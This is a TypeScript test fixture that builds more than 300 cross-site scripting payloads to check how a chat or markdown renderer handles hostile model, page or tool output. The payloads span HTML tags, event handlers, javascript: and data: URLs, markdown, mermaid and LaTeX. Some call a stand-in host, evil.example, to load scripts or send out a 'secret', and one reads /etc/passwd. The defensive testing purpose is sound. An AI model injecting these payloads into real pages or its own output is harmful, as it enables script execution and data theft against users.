// Texts that a malicious model, web page or tool might send. Tests render them whole and truncated
// at many positions.

const SCRIPTS = ['alert(1)', 'window.__canary=1', 'fetch("//evil.example")']
const TAGS = [
  '<script>RUN</script>',
  '<script src=//evil.example/x.js></script>',
  '<img src=x onerror=RUN>',
  '<img/src=`x`onerror=RUN>',
  '<svg onload=RUN>',
  '<svg><script>RUN</script></svg>',
  '<svg><animate onbegin=RUN attributeName=x dur=1s>',
  '<svg><a xlink:href="javascript:RUN"><text>x</text></a></svg>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=RUN>#x"></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>RUN</script>"></iframe></foreignObject></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=RUN>',
  '<math><a xlink:href="javascript:RUN">x</a></math>',
  '<math href="javascript:RUN">x</math>',
  '<iframe src="javascript:RUN"></iframe>',
  '<iframe srcdoc="<script>RUN</script>"></iframe>',
  '<object data="javascript:RUN"></object>',
  '<embed src="javascript:RUN">',
  '<form action="javascript:RUN"><button>x</button></form>',
  '<button formaction="javascript:RUN">x</button>',
  '<input autofocus onfocus=RUN>',
  '<details open ontoggle=RUN>',
  '<video><source onerror=RUN></video>',
  '<audio src=x onerror=RUN>',
  '<body onload=RUN>',
  '<marquee onstart=RUN>',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<meta http-equiv=refresh content="0;url=javascript:RUN">',
  '<base href=//evil.example/>',
  '<style>@import "//evil.example/x.css"</style>',
  '<div style="background:url(//evil.example/x)" onclick=RUN>x</div>',
  '<a href="javascript:RUN">x</a>',
  '<a href="jAvA&#x09;script:RUN">x</a>',
  '<p id="root" name="cookie" onmouseover=RUN>x</p>',
  '<template><script>RUN</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=RUN>"></noscript>',
  '<!--><img src=x onerror=RUN>-->',
  '<![CDATA[<img src=x onerror=RUN>]]>',
  '<?xml-stylesheet href="javascript:RUN"?>',
  '<xmp><img src=x onerror=RUN></xmp>',
  '<select><noembed></select><script>RUN</script></noembed>',
  '<custom-element onclick=RUN>x</custom-element>',
]

const ADDRESSES = [
  'javascript:RUN',
  'JaVaScRiPt:RUN',
  'javascript&colon;RUN',
  'java&Tab;script:RUN',
  'java%0ascript:RUN',
  '\u0001javascript:RUN',
  'javascript\u200b:RUN',
  'vbscript:RUN',
  'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
  'data:image/svg+xml,<svg onload=RUN>',
  'file:///etc/passwd',
  'blob:null/x',
  '//evil.example/x',
  'https://evil.example/?q=secret',
]

const MARKDOWN = [
  '[x](ADDRESS)',
  '[x](<ADDRESS>)',
  '![x](ADDRESS)',
  '[![x](ADDRESS)](ADDRESS)',
  '<ADDRESS>',
  '[x][r]\n\n[r]: ADDRESS',
  '[x](ADDRESS "title\\" onmouseover=alert(1)")',
]

const SHAPES = [
  '```mermaid\nflowchart LR\n  A["<img src=x onerror=alert(1)>"] --> B\n  click A "javascript:alert(1)"\n```',
  '```html\n<script>alert(1)</script>\n```',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '$$\\href{javascript:alert(1)}{x}$$',
  '$$\\url{javascript:alert(1)}$$',
  '$$\\htmlData{onclick=alert(1)}{x}$$',
  '$$\\includegraphics{https://evil.example/x.png}$$',
  '$$\\def\\a{\\a\\a}\\a$$',
  '$$<img src=x onerror=alert(1)>$$',
  '| a |\n| - |\n| <img src=x onerror=alert(1)> |',
  '- [ ] <script>alert(1)</script>',
  '[^1]\n\n[^1]: <img src=x onerror=alert(1)> [x](javascript:alert(1))',
  '<details type="tool_calls" done="true"><summary>x</summary></details>',
  '# <svg onload=alert(1)>\n\n> <iframe src=javascript:alert(1)>',
]

const withScripts = (texts: readonly string[]): string[] =>
  texts.flatMap((text) => SCRIPTS.map((script) => text.replaceAll('RUN', script)))

/** More than 300 of them. */
export const hostilePayloads: readonly string[] = [
  ...withScripts(TAGS),
  ...MARKDOWN.flatMap((shape) =>
    withScripts(ADDRESSES).map((address) => shape.replaceAll('ADDRESS', address)),
  ),
  ...SHAPES,
]
